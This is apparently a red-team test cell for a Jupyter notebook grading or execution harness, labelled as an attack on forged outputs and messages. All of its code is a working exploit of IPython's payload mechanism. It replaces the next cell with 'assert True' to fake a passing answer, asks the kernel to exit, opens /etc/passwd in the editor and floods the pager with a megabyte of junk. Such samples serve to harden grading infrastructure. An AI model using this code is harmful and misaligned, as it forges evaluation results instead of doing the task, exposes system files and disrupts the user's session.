# ---
# class: forged outputs and messages
# tries: "payloads and user expressions in the reply: replace the next cell, page, ask to exit"
# success: any point or harm
# ---

# %% solution="total"
shell = get_ipython()
shell.set_next_input("assert True", replace=True)
shell.payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
shell.payload_manager.write_payload({"source": "edit_magic", "filename": "/etc/passwd", "line_number": 1})
shell.payload_manager.write_payload({"source": "page", "data": {"text/plain": "x" * 10**6}})
